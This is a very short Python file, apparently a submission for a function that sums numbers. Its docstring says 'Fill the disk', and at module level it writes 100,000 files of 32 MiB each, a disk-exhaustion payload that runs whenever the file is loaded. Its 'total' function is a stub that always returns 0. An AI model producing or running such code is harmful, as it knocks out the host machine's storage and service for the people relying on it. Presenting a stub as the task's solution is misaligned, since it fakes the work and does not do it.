"""Fill the disk."""
for number in range(100000):
    open(f"file{number}", "wb").write(b"x" * (32 << 20))
def total(numbers): return 0
